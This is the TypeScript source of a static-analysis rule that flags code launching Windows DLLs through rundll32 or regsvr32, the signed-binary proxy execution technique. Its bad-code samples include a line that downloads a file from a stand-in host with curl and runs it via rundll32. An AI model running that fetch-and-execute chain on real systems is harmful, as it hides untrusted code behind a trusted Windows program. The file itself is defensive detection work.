import { string } from "../match.ts";
import { defineRule } from "../rule.ts";

export default defineRule({
  id: "library-run-by-name",
  category: "dangerous_imports",
  severity: "medium",
  confidence: "medium",
  languages: ["python", "javascript"],
  title: "a library of Windows is run like a program",
  why: "A signed program of Windows then runs whatever the library holds, and nobody sees a new process.",
  fix: "Load the library in the program that needs it, or ship a program.",
  references: ["ATT&CK T1218.011", "ATT&CK T1218.010"],
  match: string(/(rundll32|regsvr32)(\.exe)? /i),
  bad: [
    'import os\nos.system("rundll32 helper.dll,Start")',
    'batch = "curl -o a.db https://a.example/x\\nrundll32 a.db,Run 1"',
  ],
  good: ['names = ["rundll32.exe", "svchost.exe"]', 'print("rundll32")'],
});
